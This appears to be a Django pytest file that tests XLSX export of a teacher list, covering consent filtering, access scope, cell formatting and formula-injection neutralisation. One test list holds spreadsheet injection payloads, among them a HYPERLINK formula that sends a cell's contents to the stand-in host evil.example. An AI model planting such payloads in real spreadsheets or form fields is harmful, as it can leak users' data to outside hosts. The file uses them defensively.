"""Export of a filtered list to XLSX (issue 3, item 5): the same rows as the list (all pages),
no one without a valid consent to personal-data processing, formula injection neutralized."""

from __future__ import annotations

import datetime as dt
import io
import zoneinfo

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from nastavnik.bank.models import PersonalDataConsent
from nastavnik.core.export import export_filename, neutralize_formula, xlsx_bytes, xlsx_response
from nastavnik.people.models import Person
from nastavnik.people.views import PersonListView
from nastavnik.testing import factories as f

pytestmark = pytest.mark.django_db

HEADERS = [
    "ФИО",
    "СНИЛС",
    "Дата рождения",
    "Должность",
    "Места работы",
    "Квалификационная категория",
    "Общий стаж, лет",
    "Педагогический стаж, лет",
    "Электронная почта",
    "Телефон",
]
#: Queries of a people export whatever its length: session, user, scope (roles, own person),
#: «any municipality?», the count, the rows, the current jobs prefetch.
EXPORT_QUERIES = 9  # with the INSERT of the export's audit entry (audit.middleware)


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def export(client: Client, query: str = ""):
    """``(response, rows)``: the people export and its rows as lists of cell values."""
    response = client.get(f"/people/?{query}{'&' if query else ''}export=xlsx")
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return response, [[c.value for c in row] for row in sheet.iter_rows()]


def exported_names(client: Client, query: str = "") -> list[str]:
    _response, rows = export(client, query)
    assert rows[0] == HEADERS
    return [row[0] for row in rows[1:]]


# --- the same rows as the list ----------------------------------------------------------------


def test_export_holds_the_whole_filtered_list_not_one_page(world):
    # given 30 more teachers in school A (past a page of 25) and one in school B
    for i in range(30):
        f.staff_member(world.school_a, last_name=f"Выгружаемая{i:02d}")
    f.staff_member(world.school_b, last_name="Выгружаемая-Б")
    client = signed_in(world.users["operator"])

    # when the operator filters by school A and surname, and exports
    query = f"organization={world.school_a.pk}&q=выгруж&page=2"
    names = exported_names(client, query)

    # then the export has all 30 (both pages of the list), in the list's order, and nothing else
    assert len(names) == 30
    assert names == sorted(names)
    assert all(name.startswith("Выгружаемая") for name in names)
    html = client.get(f"/people/?{query}").content.decode()
    assert "Найдено: 30" in html


def test_export_leaves_out_people_without_consent_even_for_the_curator(world):
    # given a teacher of A without a consent and one whose consent was withdrawn
    f.staff_member(world.school_a, last_name="Безсогласова", consent=False)
    PersonalDataConsent.objects.filter(person=world.teacher_a).update(withdrawn_on=timezone.localdate())
    client = signed_in(world.users["curator_a"])

    # then the curator sees both in the list
    html = client.get("/people/").content.decode()
    assert "Безсогласова" in html and "Афанасьева" in html

    # but neither is in the export
    names = exported_names(client)
    assert names == ["Молодцова Мария Петровна", "Наставникова Мария Петровна"]


def test_export_respects_the_scope_exactly_like_the_list(world):
    # the curator of B gets the people of B only; the coordinator of municipality 1 only A's
    assert exported_names(signed_in(world.users["curator_b"])) == ["Борисова Мария Петровна"]
    names = exported_names(signed_in(world.users["coordinator"]))
    assert "Борисова Мария Петровна" not in names and len(names) == 3
    # and the mentor gets themselves and their mentee, as in their list
    assert len(exported_names(signed_in(world.users["mentor_a"]))) == 2


def test_export_cells_are_typed_and_the_sheet_is_laid_out(world):
    person = world.teacher_a
    person.email, person.phone = "afanasyeva@edu.example", "8 912 000-00-00"
    person.save()
    response, _rows = export(signed_in(world.users["curator_a"]), "q=афанас")

    # the file is named after the list and today's date
    today = timezone.localdate()
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert response["Content-Disposition"] == f'attachment; filename="pedagogi-{today:%Y-%m-%d}.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Педагогические работники"
    # a bold, frozen header with an autofilter, and widths fitted to the content
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:J2"
    assert sheet.column_dimensions["A"].width >= len("Афанасьева Мария Петровна")
    # a date is a real date, numbers are numbers, text is text
    row = {header: cell for header, cell in zip(HEADERS, sheet[2], strict=True)}
    assert row["Дата рождения"].is_date and row["Дата рождения"].value == dt.datetime(1985, 3, 14)
    assert row["Дата рождения"].number_format == "DD.MM.YYYY"
    assert row["Педагогический стаж, лет"].value == 12 and row["Педагогический стаж, лет"].data_type == "n"
    assert row["Места работы"].value == "СОШ № 1 (город Сургут)"  # with the municipality (issue 13)
    assert row["СНИЛС"].value == person.snils_display
    assert row["Телефон"].value == "8 912 000-00-00"


# --- formula injection ---------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_injection_comes_back_as_text(world, payload):
    # given a teacher whose surname and e-mail were typed as a formula
    f.staff_member(world.school_a, last_name=payload, first_name="", middle_name="", email=payload)
    client = signed_in(world.users["curator_a"])

    # when the list is exported
    response, _rows = export(client)
    sheet = load_workbook(io.BytesIO(response.content)).active

    def text(value: str) -> str:  # without lxml, XML reads a carriage return back as a line feed
        return value.replace("\r", "\n")

    cells = [row for row in sheet.iter_rows(min_row=2) if text(row[0].value) == text("'" + payload)]

    # then both cells are text (never a formula), led by an apostrophe, the payload intact after it
    assert len(cells) == 1
    for cell in (cells[0][0], cells[0][8]):
        assert cell.data_type == "s"
        assert text(cell.value) == text("'" + payload)


def test_neutralize_formula():
    assert neutralize_formula("=1+1") == "'=1+1"
    assert neutralize_formula("Иванова") == "Иванова"
    assert neutralize_formula("a=b") == "a=b"
    assert neutralize_formula("") == ""
    assert neutralize_formula("ab\x00\x07c") == "abc"  # characters XML cannot carry


def test_xlsx_bytes_writes_no_formula_whatever_the_value():
    aware = dt.datetime(2026, 11, 21, 10, 30, tzinfo=zoneinfo.ZoneInfo("UTC"))
    content = xlsx_bytes(
        headers=["A", "B", "C", "D"],
        rows=[["=1+1", aware, ["=x", "y"], None], [1.5, dt.date(2026, 1, 2), True, "+7"]],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.data_type for c in sheet[2]][:3] == ["s", "d", "s"]
    assert sheet["A2"].value == "'=1+1" and sheet["C2"].value == "'=x; y" and sheet["D2"].value is None
    assert sheet["B2"].value == timezone.localtime(aware).replace(tzinfo=None)
    assert sheet["D3"].value == "'+7" and sheet["A3"].value == 1.5 and sheet["C3"].value is True


def test_cyrillic_file_name_goes_in_rfc_5987_form():
    response = xlsx_response(columns=[("ФИО", "x")], objects=[], filename_stem="педагоги")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''%D0%BF%D0%B5%D0%B4")
    assert export_filename("pedagogi", today=dt.date(2026, 11, 21)) == "pedagogi-2026-11-21.xlsx"


# --- the button, access and limits -----------------------------------------------------------------


def test_button_keeps_the_current_filters_and_drops_the_page(world):
    html = signed_in(world.users["curator_a"]).get("/people/?q=мол&page=1").content.decode()
    assert "Выгрузить в Excel" in html
    assert 'href="?q=%D0%BC%D0%BE%D0%BB&amp;export=xlsx"' in html


def test_anonymous_export_is_sent_to_sign_in(world):
    response = Client().get("/people/?export=xlsx")
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_an_export_too_long_comes_back_with_a_message(world, monkeypatch):
    monkeypatch.setattr(PersonListView, "export_max_rows", 2)
    query = f"organization={world.school_a.pk}"
    response = signed_in(world.users["curator_a"]).get(f"/people/?{query}&export=xlsx", follow=True)
    html = response.content.decode()
    assert response.redirect_chain[-1][0] == f"/people/?{query}"
    assert "Записей в списке больше, чем можно выгрузить за один раз (2)" in html
    assert "больше, чем можно выгрузить за один раз" in html


@pytest.mark.parametrize("extra", [0, 40], ids=["small", "grown"])
def test_export_query_count_is_bounded(world, django_assert_max_num_queries, extra):
    for i in range(extra):
        f.staff_member(world.school_a, last_name=f"Ещё{i:02d}")
    client = signed_in(world.users["operator"])
    client.get("/")  # warm the session
    with django_assert_max_num_queries(EXPORT_QUERIES):
        _response, rows = export(client)
    assert len(rows) == 1 + Person.objects.count()
